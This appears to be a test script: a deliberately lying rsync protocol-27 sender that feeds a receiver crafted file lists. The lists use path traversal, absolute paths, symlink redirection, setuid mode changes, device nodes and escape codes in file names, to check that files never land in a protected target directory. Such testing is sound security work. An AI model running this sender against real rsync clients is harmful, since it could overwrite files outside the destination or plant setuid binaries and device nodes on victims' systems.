#!/usr/bin/python3
"""A sender that speaks version 27 of rsync's protocol and lies: hostile_rsync.py ATTACK TARGET.

The format is that of rsync.5 of openrsync. TARGET is a directory that the receiver must never reach.
"""

import os
import stat
import struct
import sys

attack, target = sys.argv[1], os.fsencode(sys.argv[2])
CONTENT = b"evil\n"
SEED = 0x12345678
REGULAR, DIRECTORY, LINK = stat.S_IFREG | 0o644, stat.S_IFDIR | 0o755, stat.S_IFLNK | 0o777
# A file of the newest snapshot, with the time that the host gave it.
OLD = 1_500_000_000


def md4(data):
    """RFC 1320; many builds of OpenSSL have it no more."""
    mask = 0xFFFFFFFF
    length = len(data)
    data += b"\x80" + bytes((55 - length) % 64) + struct.pack("<Q", length * 8)
    state = [0x67452301, 0xEFCDAB89, 0x98BADCFE, 0x10325476]
    rounds = [
        (lambda x, y, z: (x & y) | (~x & z), 0, list(range(16)), [3, 7, 11, 19]),
        (lambda x, y, z: (x & y) | (x & z) | (y & z), 0x5A827999, [0, 4, 8, 12, 1, 5, 9, 13, 2, 6, 10, 14, 3, 7, 11, 15], [3, 5, 9, 13]),
        (lambda x, y, z: x ^ y ^ z, 0x6ED9EBA1, [0, 8, 4, 12, 2, 10, 6, 14, 1, 9, 5, 13, 3, 11, 7, 15], [3, 9, 11, 15]),
    ]
    for start in range(0, len(data), 64):
        words = struct.unpack("<16I", data[start:start + 64])
        a, b, c, d = state
        for function, constant, order, shifts in rounds:
            for step, index in enumerate(order):
                value = (a + (function(b, c, d) & mask) + words[index] + constant) & mask
                shift = shifts[step % 4]
                a, b, c, d = d, (value << shift | value >> (32 - shift)) & mask, b, c
        state = [(old + new) & mask for old, new in zip(state, (a, b, c, d))]
    return struct.pack("<4I", *state)


def read(count):
    data = b""
    while len(data) < count:
        more = os.read(0, count - len(data))
        if not more:
            sys.exit(1)
        data += more
    return data


def read_int():
    return struct.unpack("<i", read(4))[0]


def raw(data):
    while data:
        data = data[os.write(1, data):]


def send(data):
    for start in range(0, len(data), 4096):
        part = data[start:start + 4096]
        raw(struct.pack("<I", 7 << 24 | len(part)) + part)


def number(value):
    return struct.pack("<i", value)


inode = 100


def entry(name, mode, size=0, time=OLD, link=b"", device=0, user=0, same=None):
    """One entry of the file list."""
    global inode
    inode += 1
    data = bytes([0x40 | (1 if stat.S_ISDIR(mode) else 0)]) + number(len(name)) + name
    data += number(size) + number(time) + number(mode) + number(user) + number(0)
    if stat.S_ISCHR(mode) or stat.S_ISBLK(mode) or stat.S_ISFIFO(mode) or stat.S_ISSOCK(mode):
        data += number(device)
    if stat.S_ISLNK(mode):
        data += number(len(link)) + link
    if stat.S_ISREG(mode):
        data += number(1) + number(same or inode)
    return data


ROOT = entry(b".", DIRECTORY)
EVIL = len(CONTENT)
LISTS = {
    "parent": [ROOT, entry(b"../evil", REGULAR, EVIL)],
    "hidden-parent": [ROOT, entry(b"a", DIRECTORY), entry(b"a/../../../evil", REGULAR, EVIL)],
    "absolute": [ROOT, entry(target + b"/evil", REGULAR, EVIL)],
    "through-link": [ROOT, entry(b"a", LINK, link=target), entry(b"a/evil", REGULAR, EVIL)],
    "link-and-directory": [
        ROOT, entry(b"a", LINK, link=target), entry(b"a", DIRECTORY), entry(b"a/evil", REGULAR, EVIL),
        entry(b"a/mode", stat.S_IFREG | 0o777, EVIL),
    ],
    "root-is-link": [entry(b".", LINK, link=target), entry(b"evil", REGULAR, EVIL)],
    "root-is-file": [entry(b".", REGULAR, EVIL), entry(b"evil", REGULAR, EVIL)],
    "twice-other-mode": [ROOT, entry(b"file", REGULAR, EVIL), entry(b"file", stat.S_IFREG | 0o4777, EVIL, user=7)],
    "twice-other-time": [ROOT, entry(b"file", REGULAR, EVIL), entry(b"file", REGULAR, EVIL, time=OLD + 9)],
    "linked-to-stored": [
        ROOT, entry(b"file", REGULAR, EVIL, same=7), entry(b"other", stat.S_IFREG | 0o4777, EVIL, user=7, same=7),
    ],
    "device": [ROOT, entry(b"file", stat.S_IFBLK | 0o666, device=0x0801), entry(b"null", stat.S_IFCHR | 0o666, device=0x0103)],
    "control": [ROOT, entry(b"\x1b[31m\n../evil", REGULAR, EVIL)],
    "honest": [ROOT, entry(b"file", REGULAR, EVIL)],
}
entries = LISTS[attack]

raw(number(27))
read_int()
raw(number(SEED))
while (length := read_int()) > 0:
    read(length)
send(b"".join(entries) + b"\0" + number(0))
phase = 0
while True:
    index = read_int()
    if index == -1:
        phase += 1
        if phase > 1:
            break
        send(number(-1))
        continue
    count, block, digest, rest = (read_int() for _ in range(4))
    read(count * (4 + digest))
    send(number(index) + b"".join(map(number, (count, block, digest, rest))))
    send(number(EVIL) + CONTENT + number(0) + md4(number(SEED) + CONTENT))
send(number(-1))
send(number(1) * 3)
read_int()
